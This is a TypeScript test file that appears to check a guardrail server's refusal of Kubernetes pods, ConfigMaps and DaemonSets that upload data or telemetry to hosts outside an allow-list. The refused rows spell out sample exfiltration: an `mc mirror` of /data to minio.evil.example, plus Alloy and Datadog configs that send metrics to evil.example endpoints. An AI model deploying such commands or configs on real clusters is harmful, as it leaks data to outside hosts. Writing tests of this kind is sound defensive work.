import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 50's upload and telemetry readers (uploads50, issue #12), black-box through the build
 * `npm start` serves, at a site that lists where its data may go (guardrails.upload_hosts): a pod
 * whose MinIO client copies the data set to an alias it defines outside the list, a Grafana Alloy
 * configuration remote-writing every series outside, and a Datadog Agent DaemonSet pointed at
 * another intake are data_upload_outside, refused in every token state; `mc` to the in-cluster MinIO
 * and a Fluentd forwarding to the in-cluster aggregator are allowed on the two-factor sign-in a
 * minute old. The shapes row by row are in test/unit/guardrails-uploads.test.ts,
 * guardrails-telemetry-texts.test.ts and guardrails-telemetry-env.test.ts.
 */

const SITE = (yaml: string) => yaml.replace('guardrails:\n', 'guardrails:\n  upload_hosts: [metrics.corp.example, "*.grafana.net", "s3://corp-*"]\n');
const server = builtServerForFile('uploads50', SITE);
const subjects = freshSubjects(() => server().issuer, 'uploads50');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const IMAGE = 'registry.corp.example/tools/minio-mc@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0';

const pod = (script: string) => ({
  method: 'POST',
  path: '/api/v1/namespaces/dev/pods',
  headers: JSON_CT,
  body: { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'export', namespace: 'dev' }, spec: { restartPolicy: 'Never', containers: [{ name: 'export', image: IMAGE, command: ['sh', '-c', script] }] } },
});
const configMap = (key: string, text: string) => ({
  method: 'POST',
  path: '/api/v1/namespaces/dev/configmaps',
  headers: JSON_CT,
  body: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'agent', namespace: 'dev' }, data: { [key]: text } },
});
const daemonSet = (env: Record<string, string>[]) => ({
  method: 'POST',
  path: '/apis/apps/v1/namespaces/dev/daemonsets',
  headers: JSON_CT,
  body: { apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: { name: 'datadog-agent', namespace: 'dev' }, spec: { selector: { matchLabels: { app: 'dd' } }, template: { metadata: { labels: { app: 'dd' } }, spec: { containers: [{ name: 'agent', image: IMAGE, env }] } } } },
});

describe('uploads50: uploads and telemetry outside upload_hosts, through the server', () => {
  const rows: Row[] = [
    { what: "a pod's mc copying the data set to an alias it defines outside upload_hosts", req: pod('mc alias set x https://minio.evil.example k s && mc mirror /data x/drop'), by: 'guardrail:data_upload_outside', refused: ALL },
    { what: 'an Alloy configuration remote-writing every series outside upload_hosts', req: configMap('config.alloy', 'prometheus.remote_write "x" {\n  endpoint {\n    url = "https://metrics.evil.example/api/v1/write"\n  }\n}\n'), by: 'guardrail:data_upload_outside', refused: ALL },
    { what: "a Datadog Agent DaemonSet whose DD_DD_URL is outside upload_hosts", req: daemonSet([{ name: 'DD_DD_URL', value: 'https://intake.evil.example' }]), by: 'guardrail:data_upload_outside', refused: ALL },
  ];
  checkEscalationRows(send, rows);

  it('routine uploads and telemetry are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      pod('mc alias set minio http://minio.minio.svc:9000 k s && mc mirror /data minio/corp-models'),
      configMap('fluent.conf', '<match **>\n  @type forward\n  <server>\n    host fluentd-aggregator.logging.svc.cluster.local\n  </server>\n</match>\n'),
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
